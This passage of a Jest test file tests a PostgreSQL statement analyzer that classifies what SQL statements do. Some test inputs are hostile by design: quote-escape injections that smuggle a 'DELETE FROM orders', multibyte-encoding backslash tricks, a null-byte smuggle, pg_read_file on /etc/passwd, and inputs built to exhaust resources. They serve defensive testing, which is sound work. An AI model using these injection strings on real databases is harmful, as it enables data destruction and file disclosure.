    ['SELECT 1 BETWEEN 2 AND 3', 'call evil.<= evil.>= | writes unknownCode settings', evil],
    ['SELECT 1 NOT BETWEEN SYMMETRIC 2 AND 3', 'call evil.< evil.> | writes unknownCode settings', evil],
    ['SELECT CASE 1 WHEN 2 THEN 3 END', 'call evil.= | writes unknownCode settings', evil],
    ['SELECT CASE WHEN true THEN 3 END', 'select |', evil],
    [
      'SELECT 1 FROM a JOIN b USING (c)',
      'call evil.=, select evil.a evil.b | writes unknownCode settings',
      evil,
    ],
    [
      'SELECT 1 FROM a NATURAL JOIN b',
      'call evil.=, select evil.a evil.b | writes unknownCode settings',
      evil,
    ],
    ['SELECT 1 FROM a CROSS JOIN b', 'select evil.a evil.b |', evil],
    ['SELECT 1 IN (SELECT 2)', 'call evil.= | writes unknownCode settings', evil],
    ['SELECT EXISTS (SELECT 2), ARRAY(SELECT 1)', 'select |', evil],
    [
      'SELECT 1 BETWEEN 2 AND 3, CASE 1 WHEN 2 THEN 3 END, 1 IN (SELECT 2) FROM a JOIN b USING (c)',
      'select public.a public.b |',
    ],
  ],

  'functions that are called in column notation': [
    ["SELECT ('select 1'::text).ts_stat", unknown],
    ['SELECT t.query_to_xml, x FROM t', `select public.t, ${unknown}`],
    ["SELECT ('role'::text).set_config", `set, ${unknown}`],
    [
      "SELECT ('s'::regclass).nextval, q.setval FROM q",
      'call pg_catalog.nextval pg_catalog.setval, select public.q | writes',
    ],
    ['SELECT (42).pg_terminate_backend', 'admin pg_catalog.pg_terminate_backend | writes'],
    ["SELECT ('/etc/passwd'::text).pg_read_file", 'server-file pg_catalog.pg_read_file | writes'],
    ['SELECT f.pg_read_file FROM f', 'select public.f, server-file pg_catalog.pg_read_file | writes'],
    ['SELECT (1).pg_advisory_lock', 'lock pg_catalog.pg_advisory_lock |'],
    ['SELECT (r).pg_notify', 'listen pg_catalog.pg_notify |'],
    ['SELECT (r).x.pg_export_snapshot[1]', 'transaction pg_catalog.pg_export_snapshot |'],
    ['SELECT (r).gin_clean_pending_list', 'maintenance pg_catalog.gin_clean_pending_list | writes'],
    ['WITH a AS (SELECT (1).nextval) SELECT 1', 'call pg_catalog.nextval | writes'],
    [
      'DELETE FROM t WHERE t.pg_cancel_backend',
      'admin pg_catalog.pg_cancel_backend, delete public.t | writes',
    ],
    [
      'INSERT INTO t VALUES (1) RETURNING (1).nextval',
      'call pg_catalog.nextval, insert public.t, select public.t | writes',
    ],
    ['PREPARE p AS SELECT (1).pg_cancel_backend', 'admin pg_catalog.pg_cancel_backend | writes'],
    ['EXPLAIN SELECT (1).pg_cancel_backend', 'admin pg_catalog.pg_cancel_backend | writes'],
    [
      "SELECT ('x'::text).ts_stat",
      'call ?.ts_stat, unknown | writes ddl noWhere opaque unknownCode settings',
      { context: { searchPath: undefined } },
    ],
    ['SELECT (r).f, t.name, t.nextval_of FROM t', 'select public.t |'],
  ],

  'settings that change how text is read': [
    ["SELECT '\\'; DELETE FROM orders; --'", unread, scsOff],
    ["SELECT '\\'; DELETE FROM orders; --'", unread, { context: { standardConformingStrings: undefined } }],
    ["SELECT 'a\\\\b'", unread, scsOff],
    ['SELECT $$\\$$, E\'\\\\\', "a\\b" /* \\ */ -- \\', 'select |', scsOff],
    [Buffer.from("SELECT 'é' FROM t"), unread, { context: { clientEncoding: undefined } }],
    [Buffer.from('SELECT 1 FROM t'), 'select public.t |', { context: { clientEncoding: undefined } }],
    // In SJIS the backslash is the second half of a character, and in BIG5, GBK and their like.
    [
      Buffer.from([...Buffer.from("SELECT '"), 0x83, 0x5c, ...Buffer.from("'; DELETE FROM t; --'")]),
      unread,
      { context: { clientEncoding: 'SJIS' } },
    ],
    [
      Buffer.from([...Buffer.from("SELECT '"), 0xa5, 0x5c, ...Buffer.from("'")]),
      unread,
      { context: { clientEncoding: 'BIG5' } },
    ],
    [
      Buffer.from([...Buffer.from("SELECT '"), 0x81, 0x30, 0x81, 0x30, 0x27]),
      unread,
      { context: { clientEncoding: 'GB18030' } },
    ],
    [Buffer.from('SELECT 1 FROM t'), 'select public.t |', { context: { clientEncoding: 'SJIS' } }],
    [
      Buffer.from([...Buffer.from('SELECT * FROM t'), 0xe9]),
      'select public."té" |',
      { context: { clientEncoding: 'LATIN1' } },
    ],
    [
      Buffer.from([...Buffer.from('SELECT * FROM '), 0xcf, 0xf0]),
      'select public."Пр" |',
      { context: { clientEncoding: 'WIN1251' } },
    ],
    [Buffer.from([...Buffer.from('SELECT * FROM t'), 0xe9]), unread],
    [Buffer.from([...Buffer.from("SELECT '"), 0xff, 0x27]), unread],
    [
      Buffer.from([...Buffer.from("SELECT '"), 0xb0, 0xa1, 0x27]),
      'select |',
      { context: { clientEncoding: 'EUC_CN' } },
    ],
    [
      Buffer.from([...Buffer.from('SELECT * FROM t'), 0xb0, 0xa1]),
      unread,
      { context: { clientEncoding: 'EUC_CN' } },
    ],
    [Buffer.from('SELECT 1\0; DELETE FROM t'), unread],
  ],

  'names without end': [
    [`SELECT 1 FROM ${list(900, i => `t${i}`)}`, `select ${sorted(900, i => `public.t${i}`)} |`],
    [`SELECT 1 FROM ${list(1001, i => `t${i}`)}`, unread],
    [`SELECT ${list(1001, i => `f${i}()`)}`, unread],
    [`SELECT ${list(1001, i => `t.a${i}`)} FROM t`, unread],
    [`SELECT 1 FROM ${list(14_000, i => `t${i}`)}`, unread],
    [`SET search_path = ${list(150, i => `s${i}`)}; SELECT 1 FROM ${list(150, i => `t${i}`)}`, unread],
    [`SET search_path = ${list(2000, i => `s${i}`)}; SELECT 1 FROM ${list(2000, i => `t${i}`)}`, unread],
    [`SET search_path = ${list(900, i => `s${i}`)}; ${'TABLE t; '.repeat(5000)}`, unread],
    [`SET search_path = ${list(15_000, i => `pg_temp${i}`)}; SELECT 1 FROM ${list(5000, () => 't')}`, unread],
    ['SET LOCAL search_path = a; '.repeat(5000), unread],
    [`SET search_path = ${list(900, i => `s${i}`)}; GRANT SELECT ON ${list(5000, () => 't')} TO x`, unread],
    [
      `${list(20, i => `PREPARE p${i} AS SELECT 1 FROM ${list(900, j => `t${j}`)}`, ';')};${list(3000, i => `EXECUTE p${i % 20}`, ';')}`,
      `select ${sorted(900, i => `public.t${i}`)} |`,
    ],
    [
      `WITH ${list(3700, i => `a${i} AS (SELECT 1)`)} SELECT ${list(3700, () => '(WITH b AS (SELECT 1) SELECT 1)')}`,
      'select |',
    ],
    [
      `${'WITH a AS (SELECT 1) SELECT * FROM ('.repeat(200)}SELECT 1 FROM a, t${') x'.repeat(200)}`,
      'select public.t |',
    ],
    ['TABLE t;'.repeat(9000), 'select public.t |'],
  ],

  'what cannot be read': [
    ['SELEC 1', unread],
    ['DELETE FROM', unread],
    ['SELECT 1; SELEC 2', unread],
    ["SELECT 'unterminated", unread],
    ['BEGIN; DELETE FROM t; END; }', unread],
    ['\\d orders', unread],
    [`SELECT ${'('.repeat(600)}1${')'.repeat(600)}`, unread],
    [`SELECT ${Array(20_000).fill('1').join('+')}`, unread],
    [`SELECT ${Array(3_000).fill('1').join('+')}`, unread],
    [`SELECT 1 WHERE ${Array(10_000).fill('a = 1').join(' AND ')}`, unread],
    [`SELECT '${'x'.repeat(1 << 20)}'`, unread],
    [`SELECT '${'x y '.repeat(200_000)}' FROM t`, 'select public.t |'],
    [`INSERT INTO t VALUES ${Array(5_000).fill("(1, 'a', $1)").join(', ')}`, 'insert public.t | writes'],
  ],
};

describe.each(majors)('PostgreSQL %i', major => {
  // What portals hold is read by that of 15.
  beforeAll(() => Promise.all([major, 15].map(loadGrammar)), 60_000);

  for (const [suite, rows] of Object.entries(suites)) {
    describe(suite, () => {
      for (const [text, facts, more = {}] of rows) {
        if (major < (more.since ?? 0)) continue;
        const bytes = Buffer.from(text);
        test(bytes.toString('latin1').slice(0, 120), () => {
          const start = process.threadCpuUsage();
          const read = analyze(bytes, reading({ ...more.context, major }));
          const { user, system } = process.threadCpuUsage(start);
          expect(inShort(read)).toBe(facts);
          // Some 100 ms at worst on an idle machine, in microseconds.
          expect(user + system).toBeLessThan(2_000_000);
        });
      }
    });
  }
});

test('there are enough statements to go by', () => {
  expect(Object.values(suites).flat().length).toBeGreaterThan(250);
});

describe('prepared statements', () => {
  beforeAll(() => loadGrammar(15), 60_000);

  test('EXECUTE does what the session prepared under the name', () => {
    const prepared = analyze(Buffer.from('PREPARE p AS DELETE FROM orders'), reading()).effects.prepares;
    const context = reading({ prepared: name => prepared.find(one => one.name === name)?.facts });

    const facts = analyze(Buffer.from('EXPLAIN ANALYZE EXECUTE p'), context);

    expect(prepared.map(one => [one.name, one.facts.verb])).toEqual([['p', 'DELETE']]);
    expect(inShort(facts)).toBe('delete public.orders | writes noWhere');
    expect(facts.sessionMatters).toBe(true);
  });

  test('EXECUTE of what sets a role may change the settings', () => {
    const text = "PREPARE p AS SELECT set_config('role', 'x', false)";
    const [prepared] = analyze(Buffer.from(text), reading()).effects.prepares;

    const facts = analyze(Buffer.from('EXECUTE p'), reading({ prepared: () => prepared?.facts }));

    expect(inShort(facts)).toBe('role x | settings');
  });

  test.each([
    ['SELECT 1', false],
    ['COMMIT', false],
    ['PREPARE p AS SELECT 1', true],
    ['DEALLOCATE p', true],
    ['DECLARE c CURSOR FOR SELECT 1', true],
    ['CLOSE c', true],
    ['DISCARD ALL', true],
    ['FETCH c', true],
    ['SELECT evil.f()', true],
    ['DO $$ $$', true],
    ['EXECUTE q', true],
    ['PREPARE p AS SELECT 1; EXECUTE p', true],
    ['EXECUTE selects', false],
    ['EXECUTE declares', true],
  ])('whether %s may change what names stand for: %s', (text, names) => {
    const known: Record<string, string> = {
      selects: 'SELECT * FROM t',
      declares: 'DECLARE c CURSOR FOR SELECT 1',
    };
    const prepared = (name: string) =>
      known[name] === undefined ? undefined : analyze(Buffer.from(known[name]), reading()).command;

    expect(analyze(Buffer.from(text), reading({ prepared })).effects.names).toBe(names);
  });

  test.each([
    ['EXECUTE p', true],
    ['EXPLAIN EXECUTE p', true],
    ['FETCH c', true],
    ['MOVE c', true],
    ['DECLARE c CURSOR FOR SELECT 1', false],
    ['SELECT 1', false],
  ])('whether what names stand for decides what %s does: %s', (text, matter) => {
    expect(analyze(Buffer.from(text), reading()).namesMatter).toBe(matter);
  });

  test('DEALLOCATE and DISCARD ALL name what is forgotten', () => {
    const of = (text: string) => analyze(Buffer.from(text), reading()).effects.deallocates;

    expect(of('DEALLOCATE p; DEALLOCATE PREPARE "Q"')).toEqual(['p', 'Q']);
    expect(of('DEALLOCATE ALL')).toEqual([undefined]);
    expect(of('DISCARD ALL')).toEqual([undefined]);
  });
});

test('a wrong text is told why', async () => {
  await loadGrammar(15);

  expect(analyze(Buffer.from('SELEC 1'), reading()).unread).toBe('syntax error at or near "SELEC"');
});
